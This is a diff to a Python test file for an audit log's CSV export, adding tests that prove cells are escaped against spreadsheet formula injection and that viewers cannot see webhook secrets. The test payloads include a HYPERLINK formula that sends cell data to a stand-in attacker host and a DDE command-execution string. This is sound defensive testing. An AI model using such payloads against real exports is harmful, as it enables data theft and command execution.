@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
+import pytest
 from sqlalchemy import text
 
 from core import audit
@@ -44,7 +48,33 @@ def test_csv_export_of_the_filter(factory):
     add_events(factory, 4)
     add_events(factory, 2, subject="dataset:x")
     with factory() as s:
-        csv_text = audit.export_csv(s, where=audit.EventFilter(subject="dataset:x"))
+        csv_text = audit.export_csv(s, reader=cli_actor(), where=audit.EventFilter(subject="dataset:x"))
     lines = csv_text.strip().splitlines()
     assert lines[0].startswith("seq,ts,actor,action,subject,details,prev_hash,hash")
     assert len(lines) == 3 and all("dataset:x" in line for line in lines[1:])
+
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://attacker/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
+def test_csv_export_cells_cannot_run_as_formulas(factory, payload):
+    with transaction(factory) as s:
+        audit.record(s, payload, "dataset.registered", payload, {"note": payload})
+        audit.record(s, "ann", "dataset.registered", "dataset:safe", {})
+    with factory() as s:
+        rows = list(csv.reader(io.StringIO(audit.export_csv(s, reader=cli_actor(), where=audit.EventFilter()))))
+    attacked, plain = rows[1], rows[2]
+    assert attacked[2] == attacked[4] == "'" + payload  # actor and subject: shown as text
+    assert attacked[5].startswith("{")  # the details JSON is untouched (it cannot start a formula)
+    assert (plain[2], plain[4]) == ("ann", "dataset:safe")  # ordinary text and numbers unchanged
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_viewers_see_no_admin_configuration_details(open_page, factory):
+    with transaction(factory) as s:  # a row from before masking: the Slack URL in its details
+        audit.record(s, cli_actor(), "alert_channel.added", "alert_channel:slack",
+                     {"config": {"url": "https://hooks.slack.com/services/T1/B1/SECRETPATH"}})
+    viewer = open_page("pages/audit.py", role="viewer")
+    details = " ".join(viewer.dataframe[0].value["details"])
+    assert "SECRETPATH" not in details and "shown to admins only" in details
+    admin = open_page("pages/audit.py", role="admin")
+    assert "SECRETPATH" in " ".join(admin.dataframe[0].value["details"])
